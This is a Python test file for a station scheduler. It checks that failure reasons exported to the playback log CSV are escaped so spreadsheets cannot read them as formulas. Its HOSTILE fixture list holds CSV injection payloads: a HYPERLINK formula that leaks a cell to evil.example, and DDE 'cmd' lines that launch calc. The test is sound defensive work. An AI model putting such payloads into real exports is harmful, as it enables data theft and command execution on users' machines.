"""The playback log's CSV: a reason a station chose never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from scheduler.playbacks import ledger
from scheduler.runtime import Runtime
from tests.scheduler.conftest import approved_bulletin, station
from wardcast.csvcells import safe_row
from wardcast.protocol import Event, EventType, to_wire

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _reported_failure(client: TestClient, runtime: Runtime, admin: dict[str, str],
                      bulletin_id: int, reason: str) -> int:
    """Plan one playback on a new station and apply the station's failed event with reason."""
    target = station(client, admin, f"Trạm {uuid.uuid4().hex[:6]}")
    at = datetime.now(UTC).replace(microsecond=0) + timedelta(minutes=30)
    created = client.post("/api/v1/timetables", headers=admin, json={
        "bulletin_id": bulletin_id, "station_ids": [target["id"]], "starts_at": to_wire(at)})
    assert created.status_code == 201, created.text
    rows = client.get("/api/v1/playbacks", headers=admin,
                      params={"station_id": target["id"]}).json()["items"]
    playback_id = int(rows[0]["id"])
    event = Event(event_id=uuid.uuid4().hex, playback_id=playback_id, type=EventType.FAILED,
                  at=datetime.now(UTC), reason=reason)
    with runtime.db.session() as session:
        assert ledger.apply_event(session=session, station_id=int(str(target["id"])),
                                  event=event)
    return playback_id


def test_a_reason_that_looks_like_a_formula_is_text_in_the_csv(
        client: TestClient, runtime: Runtime, admin: dict[str, str], speech_mp3: Path) -> None:
    bulletin_id = approved_bulletin(client, admin, speech_mp3)
    ids = {_reported_failure(client, runtime, admin, bulletin_id, reason): reason
           for reason in [*HOSTILE, "decoder crashed", "=", ""]}
    answer = client.get("/api/v1/playbacks", headers=admin, params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(answer.text, newline=""))}
    for playback_id, reason in ids.items():
        cell = rows[playback_id]["reason"]
        if reason[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert cell == f"'{reason}", (reason, cell)
        else:
            # an empty reason is the default one of a failure; harmless text is kept as it is
            assert not cell.startswith("'") and (cell == reason or not reason), cell
    # the JSON log, a machine format, keeps what the station said
    items = client.get("/api/v1/playbacks", headers=admin,
                       params={"limit": 1000}).json()["items"]
    assert {i["id"]: i["reason"] for i in items if i["reason"] in HOSTILE} == {
        k: v for k, v in ids.items() if v in HOSTILE}


@pytest.mark.parametrize("value", [-12, 0, 3.5, None])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_row([value, "-12"]) == [value, "'-12"]
